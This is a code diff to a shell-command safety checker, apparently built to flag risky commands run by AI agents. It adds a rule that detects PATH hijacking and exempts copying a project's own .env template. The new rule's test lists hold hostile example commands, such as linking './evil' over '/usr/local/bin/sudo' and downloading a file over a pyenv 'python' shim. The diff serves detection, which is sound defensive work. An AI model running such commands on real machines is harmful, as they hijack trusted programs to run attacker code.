@@ -9,12 +9,14 @@ from collections.abc import Callable, Iterator
 from redline.decision import Severity
 from redline.rules import argv, targets
 from redline.rules.model import InvocationTest, Rule, rule
+from redline.rules.path_shims import shim_written
 from redline.rules.secrets import SSH_DIR, canonical, is_project_env
 from redline.rules.senders import is_remote
 from redline.shell import paths
 from redline.shell.analysis import Analysis
 from redline.shell.invocation import Invocation
 from redline.shell.lazy_regex import lazy_regex
+from redline.shell.model import DYNAMIC
 
 S = Severity.SENSITIVE
 
@@ -97,6 +99,9 @@ def _writes(inv: Invocation) -> Iterator[str]:
     `mv` sources, download outputs, generated keys, archive destinations."""
     yield from targets.written_files(inv)
     name, values = inv.name, inv.values
+    if name == "busybox" and "--install" in values:  # links every applet into a folder
+        folders = [v for v in values if not v.startswith("-")]
+        yield folders[-1] if folders else "/bin"
     operands = inv.options.operands if name in _OPERAND_WRITERS else ()
     if name == "mv" and len(operands) >= 2:
         yield from (w.value for w in operands[:-1])
@@ -136,6 +141,23 @@ def _extracts(values: tuple[str, ...]) -> bool:
     return bundled or "--extract" in values or "--get" in values
 
 
+def _from_template(inv: Invocation, family: str) -> bool:
+    """`cp .env.example .env`: a project's first step, its own template copied
+    beside it. The text is the project's placeholders, not what the agent
+    composed (`echo KEY=x > .env`, `cp /tmp/x .env` still ask)."""
+    if inv.name != "cp" or family != "project-env" or inv.options.values:
+        return False
+    operands = inv.options.operands
+    if len(operands) != 2 or "t" in inv.options.short or "r" in inv.options.short:
+        return False
+    source, target = (paths.normalize(w.value, inv.cwd) for w in operands)
+    if source is None or target is None or DYNAMIC in source + target:
+        return False
+    folder, _, name = source.rpartition("/")
+    template = name.lower().startswith(".env.") and not is_project_env(name)
+    return template and target.rpartition("/")[0] == folder
+
+
 def _tightens(inv: Invocation, family: str) -> bool:
     """`chmod 600 ~/.ssh/id_rsa`: making a secret private is what one should do."""
     if inv.name != "chmod" or family not in ("ssh", "credentials", "agent-config", "project-env"):
@@ -171,7 +193,7 @@ def _written_families(analysis: Analysis) -> dict[int, frozenset[str]]:
 
 # Every program `_writes` reads beyond its redirects (keep in step with its branches).
 _MAY_WRITE = targets.OPERAND_WRITERS | _OPERAND_WRITERS | {
-    "curl", "wget", "wget2", "ssh-keygen", "tar", "unzip", "patch", "visudo"
+    "curl", "wget", "wget2", "ssh-keygen", "tar", "unzip", "patch", "visudo", "busybox"
 }  # fmt: skip
 
 
@@ -184,10 +206,12 @@ def _families(inv: Invocation, moved: bool) -> Iterator[str]:
         if is_remote(value):
             continue  # `scp f host:.ssh/`: another machine's files
         path = canonical(value, inv.cwd, raw.get(value, ""))
+        if path is not None and shim_written(inv, path):
+            yield "path-shim"
         if path is None or paths.is_system_dir(path) or paths.is_home_dir(path):
             continue  # a whole system or home directory: the hard lines' domain
         family = family_of(path, value in ("config.yaml", "./config.yaml") and not moved)
-        if family is not None and not _tightens(inv, family):
+        if family is not None and not _tightens(inv, family) and not _from_template(inv, family):
             yield family
 
 
@@ -275,7 +299,8 @@ SENSITIVE_RULES: tuple[Rule, ...] = (
         (
             "echo 'KEY=x' >> .env",
             "sed -i 's/DEBUG=0/DEBUG=1/' app/.env",
-            "cp .env.example .env",
+            "cp /tmp/x .env",
+            "cp ../other/.env.example .env",
             "true && printf 'A=1' > ./.env.production",
             "rm .env.local",
             "timeout 3 tee -a .env",
@@ -290,6 +315,8 @@ SENSITIVE_RULES: tuple[Rule, ...] = (
             "echo x > .environment",
             "cp .env .env.example",
             "echo 'A=' > .env.example",
+            "cp .env.example .env",
+            "cp -n app/.env.sample app/.env.local",
         ),
     ),
     _family(
@@ -419,5 +446,36 @@ SENSITIVE_RULES: tuple[Rule, ...] = (
         ("crontab -l", "crontab -r", "echo crontab x"),
         test=_crontab,
         programs=("crontab",),
+    ),
+    rule(
+        "sensitive.path-shim",
+        "sensitive",
+        S,
+        "link a program on PATH (`git`, `sudo`, `ssh`...) to another file: it runs in the "
+        "program's place later",
+        "run the other program by its own name or path; link only a program to its own name",
+        test=_writes_family("path-shim"),
+        must_match=(
+            "ln -sf /tmp/x ~/.local/bin/git",
+            "ln -s ./evil /usr/local/bin/sudo",
+            "ln -sfn /tmp/payload ~/bin/ssh",
+            "cp /tmp/x ~/.local/bin/git",
+            "install -m755 /tmp/x ~/.local/bin/sudo",
+            "printf '#!/bin/sh\\nexec /tmp/x \"$@\"\\n' > ~/.local/bin/git",
+            "ln -st ~/.local/bin /tmp/evil/git",
+            "cp /tmp/x ~/.cargo/bin/cargo",
+            "curl -o ~/.pyenv/shims/python https://x.example.com/p",
+            "busybox --install -s ~/.local/bin",
+        ),
+        must_not_match=(
+            "ln -sf /usr/bin/python3 ~/.local/bin/python",
+            "ln -s ../lib/tool ./bin/tool",
+            "ln -sf ~/src/mytool/target/release/mytool ~/.local/bin/mytool",
+            "ln -s /opt/node-v20/bin/node /usr/local/bin/node",
+            "cp build/mytool ~/.local/bin/mytool",
+            "install -m755 target/release/rg2 ~/.local/bin/",
+            "cp ~/.local/bin/git /tmp/git.bak",
+            "busybox ls",
+        ),
     ),
 )
